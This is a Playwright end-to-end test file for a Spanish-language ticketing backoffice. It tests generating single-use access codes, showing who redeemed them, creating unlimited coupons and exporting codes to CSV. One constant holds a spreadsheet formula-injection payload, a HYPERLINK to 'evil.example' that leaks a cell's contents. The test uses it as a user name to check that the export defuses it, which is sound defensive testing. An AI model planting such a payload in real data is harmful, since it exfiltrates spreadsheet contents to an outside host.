import { readFileSync } from 'node:fs';
import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
import { createActiveUser, signInThroughApi } from './helpers/accounts.ts';
import { axeOf } from './helpers/axe.ts';
import { BackofficeLoginPage } from './pages/BackofficeLoginPage.ts';

/**
 * Spec 2 /account/salescode: an organizer generates 10 access codes for a private show, sees who redeemed
 * one and when (spec 4: unused, then redeemed), and downloads them.
 */
const PRODUCER = { email: 'producer@platea.test', password: 'Producer.2026' };
const VIEWER = { email: 'viewer@platea.test', password: 'Viewer.2026' };
const PRODUCT = 'La vida es sueño: función para centros educativos';
/** A name that a spreadsheet would run: it must reach the CSV defused. */
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver")';

test('an organizer generates 10 codes for a private product, sees who redeemed one, and downloads them', async ({
  page,
  request,
}) => {
  // It also signs a new account up and activates it (the redeemer named like a formula).
  test.setTimeout(120_000);
  await signInThroughApi(page, PRODUCER);
  await page.goto('/account/salescode');
  await expect(page.locator('tbody tr').first()).toBeVisible();

  await page.getByRole('combobox', { name: 'Producto' }).fill('centros educativos');
  await page.getByRole('option', { name: PRODUCT }).click();
  const total = page.locator('.MuiTablePagination-displayedRows');
  // This show has no codes yet: the list says so (and offers to clear the filters).
  await expect(
    page.getByText('No se han encontrado códigos y cupones con los filtros actuales.'),
  ).toBeVisible();
  await expect(page.getByRole('button', { name: 'Quitar los filtros' })).toBeVisible();

  await page.getByRole('button', { name: 'Generar códigos' }).click();
  const dialog = page.getByRole('dialog', { name: 'Generar códigos' });
  // The dialog says which product the codes are for.
  await expect(dialog).toContainText(`Códigos de acceso de un solo uso para «${PRODUCT}».`);
  await dialog.getByLabel('Cuántos códigos').fill('10');
  await expect
    .poll(async () => (await axeOf(page).include('[role=dialog]').analyze()).violations.length)
    .toBe(0);
  await dialog.getByRole('button', { name: 'Generar', exact: true }).click();
  await expect(page.getByText('10 códigos generados')).toBeVisible();
  await expect(total).toContainText('de 10');
  await expect(page.locator('tbody tr').first()).toContainText('Sin usar');

  let code = '';
  await test.step('the viewer redeems one code: the list says by whom and when', async () => {
    code = (await page.locator('tbody tr').first().locator('td').first().innerText()).trim();
    const login = await request.post('/api/auth/login', { data: VIEWER });
    const { token } = (await login.json()) as { token: string };
    const redeemed = await request.post('/api/coupons/redeem', {
      headers: { authorization: `Bearer ${token}` },
      data: { code },
    });
    expect(redeemed.status(), await redeemed.text()).toBe(200);
    await page.reload();
    const row = page.getByRole('row', { name: new RegExp(code) });
    await expect(row).toContainText('Usado');
    // "Canjeado por Vera Viewer (viewer@platea.test) el 22/11/26, 10:31"
    await expect(row).toContainText(
      /Canjeado por Vera Viewer \(viewer@platea\.test\) el \d{1,2}\/\d{1,2}\/\d{2,4}, \d{1,2}:\d{2}/,
    );
    await expect(page.getByText(/Canjeado por/)).toHaveCount(1);
    const results = await axeOf(page).analyze();
    const serious = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    expect(serious.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(' ')}`)).toEqual([]);
  });

  let second = '';
  await test.step('a viewer named like a spreadsheet formula redeems another code', async () => {
    second = (await page.locator('tbody tr').nth(1).locator('td').first().innerText()).trim();
    expect(second).not.toBe(code);
    const attacker = { email: `formula-${Date.now()}@platea.test`, password: 'Formula.2026', name: FORMULA };
    await createActiveUser(request, attacker);
    const login = await request.post('/api/auth/login', {
      data: { email: attacker.email, password: attacker.password },
    });
    const { token } = (await login.json()) as { token: string };
    const redeemed = await request.post('/api/coupons/redeem', {
      headers: { authorization: `Bearer ${token}` },
      data: { code: second },
    });
    expect(redeemed.status(), await redeemed.text()).toBe(200);
    await page.reload();
    await expect(page.getByRole('row', { name: new RegExp(second) })).toContainText(
      `Canjeado por ${FORMULA}`,
    );
  });

  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Exportar' }).click();
  const text = readFileSync(await (await download).path(), 'utf8');
  // A BOM first, so spreadsheet apps read the accents as UTF-8.
  expect(text.startsWith('\uFEFF')).toBe(true);
  const lines = text.slice(1).trim().split(/\r?\n/);
  expect(lines[0]).toBe(
    'code,kind,product,discountPercent,redeemedCount,quantity,redeemed,validUntil,redeemedBy,redeemedByEmail,redeemedAt',
  );
  expect(lines.length - 1).toBe(10);
  for (const line of lines.slice(1)) expect(line).toContain(PRODUCT);
  const redeemedLine = lines.find((line) => line.startsWith(`${code},`));
  expect(redeemedLine).toMatch(/,Vera Viewer,viewer@platea\.test,\d{4}-\d{2}-\d{2}T/);
  expect(lines.filter((line) => line.includes('viewer@platea.test'))).toHaveLength(1);
  // The formula is written as text (a leading apostrophe), so no spreadsheet runs it.
  const formulaLine = lines.find((line) => line.startsWith(`${second},`));
  expect(formulaLine).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Ver"")",formula-`);
  for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+@-]/);
});

/** A product of the demo organizer's approved channel, made through the API with a title of its own. */
async function producerProduct(request: APIRequestContext, status: 'published' | 'private', title: string) {
  const login = await request.post('/api/auth/login', { data: PRODUCER });
  const auth = { authorization: `Bearer ${((await login.json()) as { token: string }).token}` };
  const channels = (await (await request.get('/api/channels', { headers: auth })).json()) as {
    id: number;
    title: string;
  }[];
  const channel = channels.find((c) => c.title === 'Teatro del Faro');
  expect(channel).toBeDefined();
  const created = await request.post('/api/products', {
    headers: auth,
    data: { type: 'vod', title, channelId: channel?.id, status, totalPrice: 800, taxRate: 21 },
  });
  expect(created.status(), await created.text()).toBe(201);
  return { auth, product: (await created.json()) as { id: number; title: string } };
}

test('a coupon left without a number of uses has no limit, and codes are generated for a product chosen in their dialog', async ({
  page,
  request,
}) => {
  const stamp = Date.now();
  const shown = `Casa de muñecas ${stamp}`;
  const hidden = `Ensayo cerrado ${stamp}`;
  const { auth } = await producerProduct(request, 'published', shown);
  await producerProduct(request, 'private', hidden);
  const login = new BackofficeLoginPage(page);
  await login.goto('account');
  await login.signIn(PRODUCER.email, PRODUCER.password);
  await expect(page).toHaveURL(/\/account\/globalview$/);

  await test.step('the coupon is saved with no limit, and the list says so', async () => {
    const code = `SINLIMITE${stamp}`;
    await page.goto('/account/salescode/create');
    await page.getByRole('combobox', { name: 'Producto' }).fill(`Casa de muñecas ${stamp}`);
    await page.getByRole('option', { name: shown }).click();
    await page.getByLabel('Código').fill(code);
    await page.getByLabel('Descuento (%) *').fill('10');
    // "Número de usos" is left empty: its help says "Vacío: sin límite".
    await expect(page.getByText('Cuántas veces se puede usar. Vacío: sin límite.')).toBeVisible();
    await page.getByRole('button', { name: 'Guardar' }).click();
    await expect(page.getByText(`Cupón «${code}» creado`)).toBeVisible();
    await page.getByRole('textbox', { name: 'Buscar' }).fill(code);
    const row = page.getByRole('row', { name: new RegExp(code) });
    await expect(row).toContainText('0 usos · sin límite');
    const listed = await request.get(
      `/api/coupons?filter=${encodeURIComponent(JSON.stringify({ q: code }))}`,
      { headers: auth },
    );
    expect(((await listed.json()) as { quantity: number | null }[])[0]?.quantity).toBeNull();
  });

  await test.step('codes are generated from the unfiltered list by choosing the product in the dialog', async () => {
    // No filter at all (the list would otherwise remember the search above).
    await page.goto(`/account/salescode?filter=${encodeURIComponent('{}')}`);
    await expect(page.locator('tbody tr').first()).toBeVisible();
    await expect(page.getByRole('combobox', { name: 'Producto' })).toHaveValue('');
    await page.getByRole('button', { name: 'Generar códigos' }).click();
    const dialog = page.getByRole('dialog', { name: 'Generar códigos' });
    await expect(dialog).toContainText('Elige el producto privado para el que son los códigos.');
    await dialog.getByRole('combobox', { name: 'Producto privado' }).fill(`Ensayo cerrado ${stamp}`);
    await page.getByRole('option', { name: hidden }).click();
    await expect(dialog).toContainText(`Códigos de acceso de un solo uso para «${hidden}».`);
    await dialog.getByLabel('Cuántos códigos').fill('3');
    await expectNoSeriousAxe(page, '[role=dialog]');
    await dialog.getByRole('button', { name: 'Generar', exact: true }).click();
    await expect(page.getByText('3 códigos generados')).toBeVisible();
    await expect(page.locator('.MuiTablePagination-displayedRows')).toContainText('de 3');
    await expect(page.locator('tbody tr')).toHaveCount(3);
    for (const row of await page.locator('tbody tr').all()) await expect(row).toContainText(hidden);
  });
});

async function expectNoSeriousAxe(page: Page, include?: string) {
  const builder = axeOf(page);
  const results = await (include ? builder.include(include) : builder).analyze();
  const serious = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
  expect(serious.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(' ')}`)).toEqual([]);
}
